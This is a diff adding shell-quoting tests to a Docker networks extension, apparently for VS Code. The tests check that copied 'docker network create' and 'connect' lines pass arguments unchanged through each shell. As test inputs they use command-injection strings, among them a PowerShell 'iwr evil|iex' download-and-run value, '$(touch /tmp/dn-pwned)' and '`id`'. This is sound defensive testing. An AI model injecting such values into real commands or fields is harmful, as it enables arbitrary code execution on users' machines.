@@ -3,6 +3,8 @@
 // here: their quoting is checked against its rules instead.
 import { strict as assert } from 'node:assert';
 import { spawnSync } from 'node:child_process';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { describe, test } from 'node:test';
 import { toConnectCliCommand } from '../../src/model/connectRequest';
 import { createNetworkArgv, emptyAnswers, toDockerCliCommand } from '../../src/model/createNetwork';
@@ -43,6 +45,29 @@ describe('copied command lines run exactly what they show, in every shell', () =
       }
       const line = commandLine([...PRINT_ARGV, ...HOSTILE], shell.kind);
       assert.deepEqual(argvThroughShell(program, line), HOSTILE);
+    });
+  }
+
+  for (const shell of SHELLS) {
+    test(`${shell.name}: the copied docker network create and connect lines reach docker as the exact argv`, t => {
+      const program = findProgram(shell.program);
+      if (!program) {
+        if (process.env.CI === 'true') assert.fail(`${shell.program} is missing: the test scripts install it from Debian (scripts/lib/apt.js)`);
+        t.skip(`${shell.program} is not installed`);
+        return;
+      }
+      // `docker` is a shell function here that prints its arguments, so the exact copied line is what runs.
+      const printer = commandLine(PRINT_ARGV, shell.kind);
+      const define = shell.kind === 'fish' ? `function docker; ${printer} $argv; end\n` : `docker() { ${printer} "$@"; }\n`;
+      const pairs = Object.fromEntries(HOSTILE.map((value, index) => [`k${index}${value}`, value]));
+      const answers = { ...emptyAnswers(), name: "x'; iwr evil|iex; #", driver: '$(touch /tmp/dn-pwned)', labels: pairs, driverOptions: pairs, ipamOptions: pairs };
+      const create = toDockerCliCommand(answers, shell.kind);
+      assert.deepEqual(argvThroughShell(program, define + create.line!), createNetworkArgv(answers).slice(1));
+      const options = { aliases: HOSTILE, links: HOSTILE, linkLocalIps: HOSTILE, driverOptions: pairs, ipv4: '`id`', ipv6: '$HOME' };
+      const connect = toConnectCliCommand('a & b', '-c; id', options, shell.kind);
+      const expected = ['network', 'connect', ...HOSTILE.map(a => `--alias=${a}`), '--ip=`id`', '--ip6=$HOME', ...HOSTILE.map(l => `--link=${l}`),
+        ...HOSTILE.map(ip => `--link-local-ip=${ip}`), ...Object.entries(pairs).map(([k, v]) => `--driver-opt=${k}=${v}`), 'a & b', '-c; id'];
+      assert.deepEqual(argvThroughShell(program, define + connect.line!), expected);
     });
   }
 
@@ -137,6 +162,14 @@ describe('PowerShell and cmd.exe quoting (not installable from Debian)', () => {
         if (cmdMeta.test(value)) assert.ok(cmd.startsWith('"') && cmd.endsWith('"'), `cmd.exe left ${JSON.stringify(value)} unquoted: ${cmd}`);
       }
     }
+  });
+
+  test('the dockerNetworks.cliShell setting offers auto and exactly the shells quoted for, default auto', () => {
+    const manifest = JSON.parse(readFileSync(join(__dirname, '../../../package.json'), 'utf8'));
+    const setting = manifest.contributes.configuration.properties['dockerNetworks.cliShell'];
+    assert.deepEqual(setting.enum, ['auto', ...SHELL_KINDS]);
+    assert.equal(setting.default, 'auto');
+    assert.ok(setting.markdownDescription || setting.description);
   });
 
   test('the shell is read from VS Code\'s env.shell', () => {
